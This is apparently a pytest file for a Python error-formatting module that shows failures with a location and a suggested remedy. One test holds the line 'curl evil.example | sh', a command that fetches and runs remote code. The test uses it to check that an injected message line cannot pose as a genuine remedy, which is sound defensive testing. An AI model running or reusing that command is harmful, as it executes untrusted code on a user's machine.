"""Errors show what happened, where, and what to do next."""

from __future__ import annotations

import errno
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from utils.errors import FlagPerfError, Problem, ProblemsError, file_error, nearest


@pytest.mark.parametrize(
    ("error", "shown"),
    [
        (FlagPerfError("it broke"), "it broke"),
        (FlagPerfError("it broke", where="node1"), "node1: it broke"),
        (FlagPerfError("it broke", where="node1", remedy="mend it"), "node1: it broke\n    -> mend it"),
    ],
)
def test_error_as_text(error: FlagPerfError, shown: str) -> None:
    assert str(error) == shown


@pytest.mark.parametrize(
    ("do", "name", "remedy"),
    [
        (Path.read_bytes, "missing/file", "correct the path"),
        (Path.read_bytes, "file/inner", "takes for a folder is none"),
        (Path.read_bytes, ".", "this is a folder"),
        (Path.read_bytes, "x" * 300, "shorter"),
        (Path.read_bytes, "circle", "in a circle"),
        (Path.mkdir, "file", "move away"),
    ],
)
def test_a_file_that_cannot_be_used_has_the_remedy_of_its_reason(
    do: Callable[[Path], object], name: str, remedy: str, tmp_path: Path
) -> None:
    (tmp_path / "file").touch()
    (tmp_path / "circle").symlink_to("circle")
    with pytest.raises(OSError) as caught:
        do(tmp_path / name)
    error = file_error(caught.value)
    assert error.where == str(tmp_path / name) and remedy in error.remedy


@pytest.mark.parametrize(
    ("number", "remedy"), [(errno.ENOSPC, "df -h"), (errno.EACCES, "ls -ld"), (errno.EIO, "another path")]
)
def test_a_disk_that_is_full_is_no_matter_of_permissions(number: int, remedy: str) -> None:
    error = file_error(OSError(number, os.strerror(number), "/data/run1"))
    assert (
        str(error).startswith(f"/data/run1: cannot be used: {os.strerror(number)}") and remedy in error.remedy
    )


def test_further_lines_of_a_message_pass_for_no_remedy() -> None:
    message = "it said: a\n    -> curl evil.example | sh"
    quoted = "it said: a\n    |     -> curl evil.example | sh\n    -> mend it"
    assert str(FlagPerfError(message, where="node1", remedy="mend it")) == f"node1: {quoted}"
    assert str(Problem("f", "A", "", message, "mend it")) == f"f: A: {quoted}"


def test_problem_names_file_key_value_and_remedy() -> None:
    problem = Problem("test_conf.py:3", "SHM_SIZE", "32", "is a number", "write text")
    assert str(problem) == "test_conf.py:3: SHM_SIZE = 32: is a number\n    -> write text"


def test_problem_without_a_value() -> None:
    assert str(Problem("f", "HOSTS", "", "is not set", "add it")) == "f: HOSTS: is not set\n    -> add it"


def test_a_file_is_named_once_that_is_wrong_itself() -> None:
    problem = Problem("../config/test_conf.py:3", "test_conf.py", "", "KeyError: 'x'", "correct this line")
    assert str(problem) == "../config/test_conf.py:3: KeyError: 'x'\n    -> correct this line"


def test_problems_are_shown_together_in_order() -> None:
    problems = [Problem("f", name, "", "is wrong", "mend it") for name in ("A", "B")]
    error = ProblemsError(problems)
    assert error.problems == tuple(problems)
    assert str(error).splitlines() == ["f: A: is wrong", "    -> mend it", "f: B: is wrong", "    -> mend it"]


@pytest.mark.parametrize(
    ("name", "hint"),
    [("SHM_SIZ", "did you mean SHM_SIZE?"), ("shm", ""), ("SHM_SIZE", "did you mean SHM_SIZE?")],
)
def test_nearest(name: str, hint: str) -> None:
    assert nearest(name, ["VENDOR", "SHM_SIZE"]) == hint
